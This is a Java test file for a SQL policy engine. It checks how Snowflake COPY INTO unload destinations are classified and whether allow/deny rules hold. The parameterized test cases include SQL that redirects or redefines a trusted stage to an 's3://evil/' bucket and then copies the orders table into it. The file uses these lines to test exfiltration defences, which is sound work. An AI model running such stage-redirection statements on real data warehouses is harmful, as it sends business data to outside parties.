package dev.snowgate.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.snowgate.catalog.CatalogSnapshot;
import dev.snowgate.catalog.CatalogYaml;
import dev.snowgate.model.agent.AgentId;
import dev.snowgate.model.agent.ClientApplication;
import dev.snowgate.model.agent.Principal;
import dev.snowgate.model.statement.Dialect;
import dev.snowgate.model.statement.SessionContext;
import dev.snowgate.sql.AnalysisLimits;
import dev.snowgate.sql.QueryLineage;
import dev.snowgate.sql.SqlAnalyser;
import dev.snowgate.sql.SqlAnalysis;
import dev.snowgate.sql.StatementAnalysis;
import dev.snowgate.sql.UnloadTarget;
import java.time.Instant;
import java.time.ZoneId;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Where an unload leads to, as the catalog knows it, and what a policy makes of it. */
class UnloadDestinationTest {
    private static final CatalogSnapshot CATALOG = CatalogSnapshot.of("A", 1, CatalogYaml.read("catalog.yaml", """
            apiVersion: snowgate.dev/v1
            kind: Catalog
            databases:
              PROD:
                schemas:
                  CRM:
                    tables:
                      ORDERS: {columns: {ID: number}}
                      INSIDE: {columns: {ID: number}}
                    objects:
                      INSIDE: {kind: stage, location: internal}
                      OUTSIDE: {kind: stage, url: "s3://bucket/path"}
                      SOMEWHERE: {kind: stage}
            """));
    private static final SessionContext SESSION =
            SessionContext.of("A", "U", "ANALYST", Optional.of("WH"), Optional.of("PROD"), Optional.of("CRM"));
    private static final SqlAnalyser ANALYSER = new SqlAnalyser(AnalysisLimits.defaults());
    private static final String UNLOADS =
            "statements: {effects: [read, unload, create, alter, drop, code]}, objects: any";

    private static SqlAnalysis analyse(String sql, SessionContext session) {
        return ANALYSER.analyse(sql, session, CATALOG, QueryLineage.NONE);
    }

    private static UnloadTarget target(String sql) {
        List<StatementAnalysis> statements = ((SqlAnalysis.Understood) analyse(sql, SESSION)).statements();
        return statements.getLast().unload().orElseThrow();
    }

    private static String unload(String location) {
        return "copy into " + (location.startsWith("@") ? location : "'" + location + "'") + " from orders";
    }

    private static String ask(String rule, String sql) {
        PolicySet policy = PolicySet.compile(
                1,
                List.of(new PolicySource(
                        "p.yaml", "apiVersion: snowgate.dev/v1\nkind: Policy\nname: p\nrules:\n" + rule)));
        return DecisionView.of(policy.decide(new DecisionRequest(
                        new Principal(new AgentId("a"), "corp", Set.of(), Optional.empty(), Set.of()),
                        new ClientApplication("JDBC", "4"),
                        Dialect.DRIVER,
                        analyse(sql, SESSION),
                        SESSION,
                        CATALOG,
                        Instant.parse("2026-06-15T12:00:00Z"),
                        ZoneId.of("UTC"),
                        RequestFacts.NONE)))
                .decision();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "copy into @inside from orders | INTERNAL_STAGE",
                "copy into @prod.crm.inside/a/b.csv from (select id from orders) | INTERNAL_STAGE",
                "copy into @outside from orders | EXTERNAL_STAGE",
                "copy into @\"OUTSIDE\"/x from orders | EXTERNAL_STAGE",
                "copy into @\"outside\" from orders | NAMED_STAGE",
                "copy into @somewhere from orders | NAMED_STAGE",
                "copy into @unheard_of from orders | NAMED_STAGE",
                "copy into @other.inside from orders | NAMED_STAGE",
                "copy into @~/x from orders | USER_OR_TABLE_STAGE",
                "copy into @%orders from orders | USER_OR_TABLE_STAGE",
                "copy into 's3://b/x' from orders | INLINE_URL",
                "copy into 's3://b/x' from orders storage_integration = lake | INTEGRATION",
                "copy into 's3://b/x' from orders storage_integration = lake credentials = (aws_key_id = 'x') | INLINE_URL",
                "copy into 's3://b/x' from orders file_format = (type = csv) | INLINE_URL"
            })
    void the_destination_is_what_the_catalog_knows_of_it(String sql, UnloadTarget expected) {
        assertThat(target(sql)).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "create or replace stage inside url = 's3://evil/'; copy into @inside from orders",
                "alter stage inside set url = 's3://evil/'; copy into @inside from orders",
                "drop stage inside; copy into @inside from orders",
                "alter stage outside rename to inside; copy into @inside from orders",
                "create temporary stage inside url = 's3://evil/'; copy into @inside from orders",
                "alter schema crm swap with other; copy into @prod.crm.inside from prod.other.t",
                "create or replace schema prod.crm clone prod.evil; copy into @prod.crm.inside from prod.crm.orders"
            })
    void a_stage_that_the_same_text_redefines_is_not_known_any_more(String sql) {
        assertThat(target(sql)).isEqualTo(UnloadTarget.NAMED_STAGE);
    }

    @Test
    void a_temporary_stage_of_the_session_hides_the_one_that_is_known() {
        SessionContext hidden = SESSION.withOverlay(SESSION.variables(), Set.of("PROD.CRM.@INSIDE"), SESSION.overlay());
        assertThat(((SqlAnalysis.Understood) analyse("copy into @inside from orders", hidden))
                        .statements()
                        .getFirst()
                        .unload())
                .contains(UnloadTarget.NAMED_STAGE);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "internal-stage | @inside | allow",
                "internal-stage | @outside | deny",
                "internal-stage | @unheard_of | deny",
                "external-stage | @outside | allow",
                "external-stage | @unheard_of | deny",
                "named-stage | @inside | allow",
                "named-stage | @outside | allow",
                "named-stage | @unheard_of | allow",
                "'internal-stage, external-stage' | @unheard_of | allow",
                "internal-stage | s3://b/x | deny",
                "integration | s3://b/x | deny",
                "inline-url | s3://b/x | allow"
            })
    void an_allowance_holds_for_what_is_known_to_lie_in_it(String unload, String location, String expected) {
        String rule = "  - {name: r, effect: allow, " + UNLOADS + ", unload: [" + unload + "]}\n";
        assertThat(ask(rule, unload(location))).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "external-stage | @outside | deny",
                "external-stage | @unheard_of | deny",
                "external-stage | @inside | allow",
                "internal-stage | @unheard_of | deny",
                "named-stage | @inside | deny",
                "named-stage | @outside | deny",
                "inline-url | s3://b/x | deny",
                "inline-url | @outside | allow"
            })
    void a_refusal_holds_for_what_may_lie_in_it(String unload, String location, String expected) {
        String rule = "  - {name: all, effect: allow, " + UNLOADS + "}\n  - {name: r, effect: deny, unload: [" + unload
                + "], reason: r}\n";
        assertThat(ask(rule, unload(location))).isEqualTo(expected);
        assertThat(ask(rule, "select id from inside")).isEqualTo("allow");
    }

    @Test
    void a_refusal_of_addresses_also_holds_for_those_behind_an_integration() {
        String rule = "  - {name: all, effect: allow, " + UNLOADS
                + "}\n  - {name: r, effect: deny, unload: [inline-url], reason: r}\n";
        assertThat(ask(rule, "copy into 's3://b/x' from orders storage_integration = lake"))
                .isEqualTo("deny");
    }

    @Test
    void a_condition_sees_the_wide_and_the_narrow_kind_and_tags_of_the_stage() {
        String wide = "  - {name: r, effect: allow, " + UNLOADS + ", condition: 'unload == \"named-stage\"'}\n";
        String narrow = "  - {name: r, effect: allow, " + UNLOADS
                + ", condition: 'unload_destination == \"external-stage\" && \"URL=s3://bucket\" in object_tags'}\n";
        assertThat(ask(wide, "copy into @outside from orders")).isEqualTo("allow");
        assertThat(ask(narrow, "copy into @outside from orders")).isEqualTo("allow");
        assertThat(ask(narrow, "copy into @inside from orders")).isEqualTo("deny");
    }
}
